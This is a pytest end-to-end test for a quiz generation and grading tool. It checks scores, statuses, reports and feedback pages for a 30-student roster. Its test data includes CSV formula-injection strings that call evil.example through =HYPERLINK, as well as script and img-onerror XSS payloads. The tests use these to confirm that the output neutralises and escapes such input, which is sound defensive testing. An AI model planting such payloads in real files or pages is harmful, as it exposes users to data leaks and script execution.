"""The instructor's whole loop, end to end: ``mlquiz generate`` for a roster of 30 -> answers
filled in from the manifest in mixed notations, with known wrong answers, declared mistakes,
invalid entries, injected formulas and HTML, a duplicate, a ragged row and an absent student ->
``mlquiz grade`` -> every score and status checked, injected text neutralised or escaped, and a
second run (and one with ``--jobs 2``) byte-identical.
"""

from __future__ import annotations

import csv
import html
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from grader.exam.grade import grade_exam
from grader.files import FORMULA_TRIGGERS, student_stem
from questionbank.values import readable_answer

QUESTIONS = "metrics/confusion-matrix,dropout/inverted,gradients/layer-shapes," \
            "gradients/matrix-calculus"
COLUMNS = ["Q1.accuracy", "Q1.precision", "Q1.recall", "Q1.f1", "Q2.output", "Q2.inference",
           "Q3.dW", "Q3.db", "Q3.dX", "Q4.grad", "Q4.shape"]
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak","click me")'
EVIL_ID = '=HYPERLINK("http://evil.example","x")'
SCRIPT = "<script>alert(1)</script>"


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "grader", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=600, check=False)


def tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


# --------------------------------------------------------------------------- writing answers


def right_answer(part: dict[str, Any], style: int) -> str:
    """The reference answer written the way student number `style` writes it."""
    kind, value = part["type"], part["answer"]
    if kind == "number":  # decimal, percentage, or the exact text (a fraction such as 8/13)
        return [f"{value:.6g}", f"{value * 100:.6g}%", part["answer_text"]][style % 3]
    if kind == "vector":
        return part["answer_text"] if style % 2 else " ".join(f"{v:.6g}" for v in value)
    if kind == "shape":
        dims = [str(d) for d in value]
        if len(dims) == 1:
            return dims[0]
        forms = ["{}x{}", "{} x {}", "({}, {})", "{}×{}"]
        return forms[style % 4].format(*dims)
    return part["answer_text"]


class Plan:
    """What each student writes, and what the grader must make of it."""

    def __init__(self, manifest: dict[str, Any]) -> None:
        self.manifest = manifest
        self.students = {s["id"]: s for s in manifest["students"]}
        #: (student, column) -> (text, expected status, expected mistake or None)
        self.overrides: dict[tuple[str, str], tuple[str, str, str | None]] = {}

    def item(self, sid: str, number: int) -> dict[str, Any]:
        return self.students[sid]["items"][number - 1]

    def part(self, sid: str, column: str) -> dict[str, Any]:
        number, part_id = column[1:].split(".")
        return next(p for p in self.item(sid, int(number))["parts"] if p["id"] == part_id)

    def set(self, sid: str, column: str, text: str, status: str,
            mistake: str | None = None) -> None:
        self.overrides[(sid, column)] = (text, status, mistake)

    def answer(self, sid: str, column: str, style: int) -> tuple[str, str, str | None]:
        if (sid, column) in self.overrides:
            return self.overrides[(sid, column)]
        return right_answer(self.part(sid, column), style), "correct", None


def make_plan(manifest: dict[str, Any]) -> Plan:
    plan = Plan(manifest)
    p1 = plan.item("s01", 1)["parts"]
    recall = next(p for p in p1 if p["id"] == "recall")["answer"]
    plan.set("s01", "Q1.precision", f"{recall:.6g}", "incorrect", "recall-for-precision")
    accuracy = plan.part("s02", "Q1.accuracy")["answer"]
    plan.set("s02", "Q1.accuracy", f"{accuracy * 100:.5g}", "incorrect", "percent-without-sign")
    d_w = plan.part("s03", "Q3.dW")["answer"]
    plan.set("s03", "Q3.dW", f"{d_w[1]}x{d_w[0]}", "incorrect", "transposed-weight-gradient")
    params = plan.item("s04", 2)["params"]
    no_scaling = [a * m for a, m in zip(params["a"], params["m"], strict=True)]
    plan.set("s04", "Q2.output", "[" + ", ".join(f"{v:g}" for v in no_scaling) + "]",
             "incorrect", "no-scaling")
    plan.set("s04", "Q2.inference", "[" + ", ".join(f"{v:g}" for v in no_scaling) + "]",
             "incorrect", "mask-at-inference")
    plan.set("s05", "Q1.f1", "abc", "invalid")
    plan.set("s05", "Q2.inference", "[1, 2", "invalid")
    plan.set("s06", "Q1.recall", SCRIPT, "invalid")
    plan.set("s07", "Q4.grad", "", "blank")
    plan.set("s07", "Q4.shape", "   ", "blank")
    grad = plan.part("s08", "Q4.grad")["answer_text"]
    plan.set("s08", "Q4.grad", f"2*({grad})", "incorrect", "constant-factor")
    shape = plan.part("s12", "Q4.shape")["answer"]
    assert shape[0] != shape[1]
    plan.set("s12", "Q4.shape", f"{shape[1]}x{shape[0]}", "incorrect", "transposed-shape")
    plan.set("s13", "Q1.accuracy", "NO", "invalid")
    plan.set("s13", "Q1.f1", "=1+1", "invalid")
    return plan


@pytest.fixture(scope="module")
def loop(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Generate with the CLI, fill answers.csv, grade with the CLI; what the tests look at."""
    root = tmp_path_factory.mktemp("e2e")
    ids = [f"s{i:02d}" for i in range(1, 29)] + ["@s29", "s30"]
    names = {sid: f"Student {sid}" for sid in ids}
    names["s30"] = EVIL_NAME
    names["s14"] = "<img src=x onerror=alert(1)>"
    roster = io.StringIO()
    csv.writer(roster, lineterminator="\n").writerows([["id", "name"],
                                                       *([i, names[i]] for i in ids)])
    (root / "roster.csv").write_text(roster.getvalue(), encoding="utf-8")
    gen = run("generate", "--roster", "roster.csv", "--seed", "4242", "--questions", QUESTIONS,
              "--title", "Midterm", "--out", "exam", cwd=root)
    assert gen.returncode == 0, gen.stderr
    manifest = json.loads((root / "exam" / "exam.json").read_text(encoding="utf-8"))
    blank = list(csv.reader((root / "exam" / "answers.csv").read_text("utf-8").splitlines()))
    assert blank[0] == ["student", "name", "exam", *COLUMNS]
    exam_id = blank[1][2]
    plan = make_plan(manifest)

    lines: list[list[str]] = [blank[0]]
    expected: dict[str, dict[str, Any]] = {}
    for style, cells in enumerate(blank[1:]):
        sid = cells[0].removeprefix("'")  # '@s29 stays as written by generate
        if sid == "s11":
            continue  # s11 hands in nothing
        if sid == "s10":
            lines.append([cells[0], "0.5", "0.5"])  # a ragged row
            continue
        if sid == "s09":
            lines.append([*cells[:3], *(["0"] * len(COLUMNS))])  # superseded below
            continue
        answers = [plan.answer(sid, c, style) for c in COLUMNS]
        lines.append([*cells[:3], *(a[0] for a in answers)])
        expected[sid] = {c: a for c, a in zip(COLUMNS, answers, strict=True)}
    lines.append([EVIL_ID, "", exam_id, *(["1"] * len(COLUMNS))])
    lines.append(["", "", exam_id, *(["1"] * len(COLUMNS))])
    answers = [plan.answer("s09", c, 1) for c in COLUMNS]
    lines.append(["s09", "", exam_id, *(a[0] for a in answers)])
    expected["s09"] = dict(zip(COLUMNS, answers, strict=True))
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(lines)
    (root / "exam" / "answers.csv").write_text(out.getvalue(), encoding="utf-8")

    graded = run("grade", "exam/exam.json", "exam/answers.csv", cwd=root)
    assert graded.returncode == 0, graded.stderr
    line_of = {row[0].removeprefix("'"): n for n, row in enumerate(lines, start=1)}
    line_of["s09-first"] = next(n for n, row in enumerate(lines, start=1) if row[0] == "s09")
    return {"root": root, "out": root / "graded", "expected": expected, "ids": ids,
            "lines": line_of, "stdout": graded.stdout, "manifest": manifest, "names": names}


def read_gradebook(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text(encoding="utf-8").splitlines()))


def test_every_score_and_status_in_the_gradebook(loop: dict[str, Any]) -> None:
    rows = read_gradebook(loop["out"] / "gradebook.csv")
    assert rows[0] == ["student", "name", *COLUMNS, "total", "max", "percent", "status",
                       "overridden"]
    by_id = {r[0].removeprefix("'"): r for r in rows[1:]}
    assert [r[0] for r in rows[1:31]] == [("'" + i if i.startswith("@") else i)
                                          for i in loop["ids"]], "roster order"
    for sid, answers in loop["expected"].items():
        row = by_id[sid]
        scores = ["1" if answers[c][1] == "correct" else "0" for c in COLUMNS]
        assert row[1].removeprefix("'") == loop["names"][sid], "the roster's name"
        assert row[2:13] == scores, (sid, row, answers)
        total = scores.count("1")
        assert row[13:] == [str(total), "11", f"{100 * total / 11:.2f}".rstrip("0").rstrip("."),
                            "graded", ""], sid
    assert by_id["s10"][2:] == [""] * 11 + ["", "11", "", "malformed-row", ""]
    assert by_id["s11"][1:] == ["Student s11", *[""] * 11, "", "11", "", "no-submission", ""]
    assert by_id[EVIL_ID][-2] == "unknown-student"
    assert rows[-1] == [""] * 16 + ["missing-student", ""]
    assert len(rows) == 1 + 30 + 2


def test_injected_text_is_neutralised_in_the_gradebook(loop: dict[str, Any]) -> None:
    text = (loop["out"] / "gradebook.csv").read_text(encoding="utf-8")
    rows = read_gradebook(loop["out"] / "gradebook.csv")
    cells = [c for r in rows for c in r]
    assert "'" + EVIL_ID in cells and "'@s29" in cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert '\n"=HYPERLINK' not in text and "\n=" not in text


def test_part_statuses_and_mistakes_in_the_report(loop: dict[str, Any]) -> None:
    report = json.loads((loop["out"] / "report.json").read_text(encoding="utf-8"))
    students = {s["id"]: s for s in report["students"]}
    for sid, answers in loop["expected"].items():
        parts = {p["column"]: p for i in students[sid]["items"] for p in i["parts"]}
        for column, (text, status, mistake) in answers.items():
            assert parts[column]["answer"] == text
            assert parts[column]["status"] == status, (sid, column, parts[column])
            if mistake is not None:
                assert parts[column]["mistake"] == mistake, (sid, column, parts[column])
    assert students["s30"]["name"] == EVIL_NAME
    assert report["counts"] == {"graded": 28, "malformed-row": 1, "missing-student": 1,
                                "superseded": 1, "unknown-student": 1}


def test_rows_that_could_not_be_graded_have_line_numbers(loop: dict[str, Any]) -> None:
    report = json.loads((loop["out"] / "report.json").read_text(encoding="utf-8"))
    lines = loop["lines"]
    problems = {(r["line"], r["status"]) for r in report["rows"] if r["status"] != "graded"}
    assert problems == {(lines["s09-first"], "superseded"), (lines["s10"], "malformed-row"),
                        (lines[EVIL_ID], "unknown-student"), (lines[""], "missing-student")}
    superseded = next(r for r in report["rows"] if r["status"] == "superseded")
    assert superseded["message"] == (f"a later row for this student (line {lines['s09']}) "
                                      "counts instead")
    malformed = next(r for r in report["rows"] if r["status"] == "malformed-row")
    assert malformed["message"] == "3 cells where the header has 14"
    stdout = loop["stdout"]
    assert f"line {lines['s10']} (s10): malformed-row: 3 cells where the header has 14" in stdout
    assert "Graded 28 of 30 students (1 unreadable, 1 no submission) into graded/" in stdout
    assert "class report: graded/summary.html" in stdout
    summary = (loop["out"] / "summary.html").read_text(encoding="utf-8")
    assert f"<tr><td>{lines['s10']}</td><td>s10</td><td>malformed-row</td>" in summary


def test_html_and_markdown_are_escaped(loop: dict[str, Any]) -> None:
    feedback = loop["out"] / "feedback"
    page = (feedback / f"{student_stem('s06')}.html").read_text(encoding="utf-8")
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in page
    assert SCRIPT not in page
    md = (feedback / f"{student_stem('s06')}.md").read_text(encoding="utf-8")
    assert f"- Your answer: `{SCRIPT}`" in md
    img = (feedback / f"{student_stem('s14')}.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in img and "<img" not in img
    img_md = (feedback / f"{student_stem('s14')}.md").read_text(encoding="utf-8")
    assert r"\<img src=x onerror=alert(1)\>" in img_md
    for path in loop["out"].rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert SCRIPT not in text and "<img" not in text, path


def test_feedback_pages_show_verdicts_references_and_solutions(loop: dict[str, Any]) -> None:
    page = (loop["out"] / "feedback" / f"{student_stem('s01')}.html").read_text("utf-8")
    manifest = loop["manifest"]
    s01 = next(s for s in manifest["students"] if s["id"] == "s01")
    assert page.count("Worked solution") == 4
    assert page.count("<dt>Reference answer</dt>") == 11
    for item in s01["items"]:
        for part in item["parts"]:
            key = html.escape(readable_answer(part["type"], part["answer_text"]), quote=False)
            assert f"<code>{key}</code>" in page.replace("&#39;", "'")
    assert "That is recall, TP / (TP + FN)." in page
    assert "Score: <strong>10</strong> of 11 points (90.9%)" in page
    assert sorted(p.name for p in (loop["out"] / "feedback").iterdir()) == sorted(
        f"{student_stem(s)}.{ext}" for s in loop["expected"] for ext in ("html", "md"))


def report_counts(loop: dict[str, Any]) -> dict[str, int]:
    report = json.loads((loop["out"] / "report.json").read_text(encoding="utf-8"))
    return dict(report["class_counts"])


def test_summary_has_statistics_histogram_and_mistakes(loop: dict[str, Any]) -> None:
    summary = (loop["out"] / "summary.html").read_text(encoding="utf-8")
    assert ("Class summary · 30 students:\n28 graded · 0 blank · 0 ungradable · 1 unreadable · "
            "1 no submission</p>") in summary
    assert "<p>No submission from 1 student: s11.</p>" in summary
    assert ">90\u2013100</text>" in summary, "histogram bins are labelled as ranges"
    assert "n &lt; 10: statistics unreliable" not in summary
    assert report_counts(loop) == {"graded": 28, "blank": 0, "ungradable": 0,
                                   "unreadable": 1, "no-submission": 1}
    assert summary.count('<rect class="bin"') == 10
    assert "<code>recall-for-precision</code>" in summary
    assert "<code>percent-without-sign</code>" in summary
    report = json.loads((loop["out"] / "report.json").read_text(encoding="utf-8"))
    stats = {p["column"]: p for p in report["statistics"]["parts"]}
    assert stats["Q1.precision"]["n"] == 28
    assert stats["Q1.precision"]["difficulty"] == pytest.approx(27 / 28, abs=1e-6)
    assert stats["Q3.db"]["difficulty"] == 1.0 and stats["Q3.db"]["discrimination"] is None
    assert sum(b["count"] for b in report["statistics"]["histogram"]) == 28


def test_regrading_is_byte_identical_also_with_jobs(loop: dict[str, Any]) -> None:
    root = loop["root"]
    first = tree(loop["out"])
    grade_exam(root / "exam" / "exam.json", root / "exam" / "answers.csv", root / "again")
    assert tree(root / "again") == first
    parallel = run("grade", "exam/exam.json", "exam/answers.csv", "--out", "parallel",
                   "--jobs", "2", cwd=root)
    assert parallel.returncode == 0, parallel.stderr
    assert tree(root / "parallel") == first
    assert not [n for n in first if n.endswith(".tmp")]


def test_no_pages_writes_the_same_gradebook_and_summary_without_feedback(
        loop: dict[str, Any]) -> None:
    """`--no-pages` (fast: right answers are judged from the stored keys) and `--no-pages
    --jobs 2 --verify-keys` give the gradebook and summary of the full run, and no pages."""
    root = loop["root"]
    full = tree(loop["out"])
    for out, extra in (("nopages", []), ("nopages-verified", ["--jobs", "2", "--verify-keys"])):
        result = run("grade", "exam/exam.json", "exam/answers.csv", "--out", out, "--no-pages",
                     *extra, cwd=root)
        assert result.returncode == 0, result.stderr
        assert "feedback:" not in result.stdout
        files = tree(root / out)
        assert sorted(files) == ["gradebook.csv", "report.json", "summary.html"]
        assert files["gradebook.csv"] == full["gradebook.csv"]
        assert files["summary.html"] == full["summary.html"]
